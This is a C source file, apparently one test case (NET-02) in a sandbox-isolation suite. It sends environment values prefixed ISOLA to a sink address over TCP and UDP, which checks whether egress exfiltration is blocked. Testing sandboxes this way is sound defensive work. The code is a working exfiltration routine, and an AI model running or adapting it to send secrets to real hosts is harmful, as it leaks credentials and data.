/* NET-02 (network): egress exfiltration over TCP and UDP to a sink
 * (argv[1] = sink IPv4, the harness passes 127.0.0.1; argv[2] = port). Sends
 * the env ISOLA* values and a marker in 4 TCP connections plus one UDP datagram.
 * Native control: the listener counts connections/bytes. Blocked: no route
 * (own netns / default-deny egress); WASI: N/E. */
#include "common.h"
#ifdef __wasi__
ATK_NE_MAIN("WASI preview1 has no socket()/connect()/sendto()")
#else
extern char **environ;
int main(int argc, char **argv) {
  if (argc < 3) { printf("usage: net-02 <ip> <port>\n"); return ATK_INCONCLUSIVE; }
  int port = atoi(argv[2]), hits = 0;
  char msg[4096] = "ISOLA-NET-02 exfil:";
  for (char **e = environ; e && *e; e++)
    if (!strncmp(*e, "ISOLA", 5) && strlen(msg) + strlen(*e) + 2 < sizeof msg) { strcat(msg, *e); strcat(msg, ";"); }
  strcat(msg, "\n");
  for (int i = 0; i < 4; i++) hits += atk_connect_send(argv[1], port, msg);
  int u = socket(AF_INET, SOCK_DGRAM, 0);
  struct sockaddr_in sa = {0};
  sa.sin_family = AF_INET; sa.sin_port = htons(port);
  inet_pton(AF_INET, argv[1], &sa.sin_addr);
  long rc = u < 0 ? -1 : sendto(u, msg, strlen(msg), 0, (struct sockaddr *)&sa, sizeof sa);
  printf("UDP:sendto -> %s\n", rc >= 0 ? "SENT" : atk_errname(errno));
  if (u >= 0) close(u);
  return hits ? ATK_ACHIEVED : ATK_BLOCKED;
}
#endif
